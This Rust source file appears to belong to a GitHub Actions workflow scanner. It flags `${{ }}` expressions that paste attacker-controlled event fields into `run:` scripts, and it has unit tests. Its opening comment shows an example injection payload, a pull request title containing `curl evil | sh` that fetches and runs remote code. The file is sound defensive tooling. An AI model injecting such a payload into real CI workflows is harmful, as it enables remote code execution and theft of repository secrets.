//! Template injection: `${{ expr }}` is pasted into a `run:` script (or a github-script
//! `script:`) as text before the shell starts, so a pull request title such as
//! `"; curl evil | sh; "` becomes code. Which contexts an outsider controls.

/// How far a context can be trusted.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Taint {
    /// Free text an outsider writes: titles, bodies, commit messages, branch names.
    Attacker,
    /// An event field we do not know to be safe (numbers, SHAs, URLs and the base
    /// repository are known safe).
    Unknown,
    /// A workflow or action input: whoever dispatches or calls the workflow chooses it.
    Input,
}

/// One `${{ }}` expression of a script and the contexts in it worth reporting.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Expansion {
    /// Byte offset of `${{` in the script.
    pub offset: usize,
    /// The expression as written, without the braces.
    pub expr: String,
    /// (context path, taint), most severe first.
    pub contexts: Vec<(String, Taint)>,
}

/// Free-text event fields, by their last path segment.
const FREE_TEXT: &[&str] = &[
    "title",
    "body",
    "message",
    "page_name",
    "display_title",
    "head_branch",
    "default_branch",
    "description",
    "homepage",
];

/// Event fields that are numbers, hashes, timestamps, URLs or states.
const SAFE_FIELDS: &[&str] = &[
    "number",
    "id",
    "node_id",
    "sha",
    "after",
    "before",
    "url",
    "state",
    "merged",
    "draft",
    "action",
    "forced",
    "created",
    "deleted",
    "private",
    "fork",
    "size",
    "run_id",
    "run_number",
    "run_attempt",
    "conclusion",
    "status",
    "event",
    "workflow_id",
    "login",
    "type",
    "full_name",
    "owner",
    "comments",
    "commits",
    "additions",
    "deletions",
    "changed_files",
    "locked",
    "path",
];

/// The context paths an expression reads, normalised: `github.event['issue'].title` and
/// `github.event.commits[0].message` become `github.event.issue.title` and
/// `github.event.commits.*.message`.
pub fn context_paths(expr: &str) -> Vec<String> {
    let mut out = Vec::new();
    let chars: Vec<char> = expr.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '\'' {
            // A string literal: skip it.
            i += 1;
            while i < chars.len() && chars[i] != '\'' {
                i += 1;
            }
            i += 1;
            continue;
        }
        if c.is_ascii_alphabetic() || c == '_' {
            let start = i;
            let mut path = String::new();
            while i < chars.len() {
                let c = chars[i];
                if c.is_ascii_alphanumeric() || c == '_' || c == '-' || c == '.' || c == '*' {
                    path.push(c);
                    i += 1;
                } else if c == '[' {
                    // `['name']` or `[0]` / `[*]`
                    let close = chars[i..].iter().position(|&c| c == ']').map(|p| i + p);
                    let Some(close) = close else { break };
                    let inner: String = chars[i + 1..close].iter().collect();
                    let inner = inner.trim().trim_matches('\'').trim_matches('"');
                    path.push('.');
                    if inner.chars().all(|c| c.is_ascii_digit()) {
                        path.push('*');
                    } else {
                        path.push_str(inner);
                    }
                    i = close + 1;
                } else {
                    break;
                }
            }
            // A function call such as `toJSON(` is not a context.
            if chars.get(i) == Some(&'(') || start == i {
                i += 1;
                continue;
            }
            let path = path.trim_end_matches('.').to_string();
            if path.contains('.') && !out.contains(&path) {
                out.push(path);
            }
            continue;
        }
        i += 1;
    }
    out
}

/// How much an outsider controls `path`, or `None` when it is safe to expand.
pub fn taint(path: &str) -> Option<Taint> {
    let lower = path.to_ascii_lowercase();
    let segs: Vec<&str> = lower.split('.').collect();
    match segs.as_slice() {
        ["github", "head_ref"] => Some(Taint::Attacker),
        ["inputs", ..] | ["github", "event", "inputs", ..] => Some(Taint::Input),
        ["github", "event"] => Some(Taint::Attacker),
        ["github", "event", "repository", ..] => None,
        ["github", "event", rest @ ..] => {
            let last = *rest.last()?;
            // Releases are written by maintainers, not outsiders.
            let maintainers = rest.first() == Some(&"release");
            let parent = rest.len().checked_sub(2).map(|p| rest[p]).unwrap_or("");
            if !maintainers && FREE_TEXT.contains(&last)
                || (matches!(last, "name" | "email" | "username")
                    && matches!(parent, "author" | "committer"))
                || (matches!(last, "ref" | "label") && parent == "head")
            {
                return Some(Taint::Attacker);
            }
            // A whole object (`toJSON(github.event.pull_request)`) carries its free text.
            if rest.len() == 1
                && matches!(
                    last,
                    "pull_request"
                        | "issue"
                        | "comment"
                        | "review"
                        | "review_comment"
                        | "discussion"
                        | "head_commit"
                        | "commits"
                        | "workflow_run"
                        | "pages"
                )
            {
                return Some(Taint::Attacker);
            }
            let safe = SAFE_FIELDS.contains(&last)
                || last.ends_with("_url")
                || last.ends_with("_at")
                || last.ends_with("_id")
                || last.ends_with("_sha")
                || last.ends_with("_count")
                || last == "*";
            (!safe).then_some(Taint::Unknown)
        }
        _ => None,
    }
}

/// Whether an expression evaluates to a boolean (a comparison or a test), which cannot
/// inject text whatever it reads.
fn boolean(expr: &str) -> bool {
    let e = expr.trim();
    if e.contains("||") || e.contains("&&") {
        return false;
    }
    let lower = e.to_ascii_lowercase();
    ["==", "!=", "<=", ">=", "<", ">"]
        .iter()
        .any(|op| e.contains(op))
        || ["contains(", "startswith(", "endswith(", "!"]
            .iter()
            .any(|f| lower.starts_with(f))
}

/// Every `${{ }}` in `script` that expands something not known to be safe. `env` resolves
/// `env.NAME` to the value the workflow gives it (an `env:` value that itself expands an
/// attacker's text is pasted just the same).
pub fn expansions(script: &str, env: &dyn Fn(&str) -> Option<String>) -> Vec<Expansion> {
    let mut out = Vec::new();
    let mut pos = 0;
    while let Some(start) = script[pos..].find("${{").map(|s| s + pos) {
        let body_start = start + 3;
        let end = script[body_start..]
            .find("}}")
            .map(|e| e + body_start)
            .unwrap_or(script.len());
        let expr = script[body_start..end].trim().to_string();
        pos = (end + 2).min(script.len());
        if boolean(&expr) {
            continue;
        }
        let mut contexts: Vec<(String, Taint)> = Vec::new();
        for path in context_paths(&expr) {
            if let Some(name) = path
                .strip_prefix("env.")
                .or_else(|| path.strip_prefix("ENV."))
            {
                let Some(value) = env(name) else { continue };
                for inner in expansions(&value, &|_| None) {
                    for (p, t) in inner.contexts {
                        let via = format!("{p} (through env.{name})");
                        if !contexts.iter().any(|(q, _)| *q == via) {
                            contexts.push((via, t));
                        }
                    }
                }
                continue;
            }
            if let Some(t) = taint(&path) {
                contexts.push((path, t));
            }
        }
        if contexts.is_empty() {
            continue;
        }
        contexts.sort_by_key(|(_, t)| match t {
            Taint::Attacker => 0,
            Taint::Unknown => 1,
            Taint::Input => 2,
        });
        out.push(Expansion {
            offset: start,
            expr,
            contexts,
        });
    }
    out
}

/// Triggers whose runs get the base repository's secrets and a token that can write, while
/// an outsider writes the event (a pull request, a comment, an issue, a wiki page).
pub const PRIVILEGED_TRIGGERS: &[&str] = &[
    "pull_request_target",
    "issue_comment",
    "issues",
    "discussion",
    "discussion_comment",
    "workflow_run",
    "gollum",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn found(script: &str) -> Vec<(String, Taint)> {
        let env = |k: &str| (k == "TITLE").then(|| "${{ github.event.issue.title }}".to_string());
        expansions(script, &env)
            .into_iter()
            .flat_map(|e| e.contexts)
            .collect()
    }

    #[test]
    fn attacker_controlled_contexts() {
        for expr in [
            "github.event.pull_request.title",
            "github.event.pull_request.body",
            "github.event.issue.title",
            "github.event.comment.body",
            "github.event.review.body",
            "github.event.head_commit.message",
            "github.event.head_commit.author.email",
            "github.event.commits[0].message",
            "github.event.pull_request.head.ref",
            "github.event.pull_request.head.label",
            "github.event.workflow_run.head_branch",
            "github.event.pages[0].page_name",
            "github.event['pull_request']['title']",
            "github.head_ref",
            "toJSON(github.event.pull_request)",
            "format('{0}', github.event.discussion.body)",
        ] {
            let f = found(&format!("echo \"${{{{ {expr} }}}}\""));
            assert_eq!(f.len(), 1, "{expr}: {f:?}");
            assert_eq!(f[0].1, Taint::Attacker, "{expr}");
        }
    }

    #[test]
    fn safe_and_unknown_contexts() {
        for expr in [
            "github.event.pull_request.number",
            "github.event.number",
            "github.event.pull_request.head.sha",
            "github.event.workflow_run.id",
            "github.event.issue.pull_request.url",
            "github.event.repository.clone_url",
            "github.event.repository.name",
            "github.event.pull_request.user.login",
            "github.event_name",
            "github.sha",
            "github.ref_name",
            "github.repository",
            "matrix.target",
            "steps.x.outputs.y",
            "needs.a.outputs.version",
            "secrets.TOKEN",
            "github.event_name != 'pull_request'",
            "contains(github.event.pull_request.title, 'wip')",
            "github.event.pull_request.title == 'x'",
            "env.OTHER",
        ] {
            assert!(found(&format!("x ${{{{ {expr} }}}}")).is_empty(), "{expr}");
        }
        assert_eq!(
            found("echo ${{ github.event.client_payload.ref }}")[0].1,
            Taint::Unknown
        );
        assert_eq!(found("echo ${{ inputs.version }}")[0].1, Taint::Input);
        assert_eq!(
            found("echo ${{ github.event.inputs.tag }}")[0].1,
            Taint::Input
        );
        // `env.X` is pasted as text too: what it holds matters.
        assert_eq!(
            found("echo ${{ env.TITLE }}"),
            vec![(
                "github.event.issue.title (through env.TITLE)".to_string(),
                Taint::Attacker
            )]
        );
        // "$TITLE" is the safe way: the shell reads it, nothing is pasted.
        assert!(found("echo \"$TITLE\"").is_empty());
        // Several in one script, each with its offset.
        let e = expansions(
            "a\necho ${{ github.head_ref }}\necho ${{ github.event.issue.body }}",
            &|_| None,
        );
        assert_eq!(e.len(), 2);
        assert_eq!(e[0].offset, 7);
    }
}
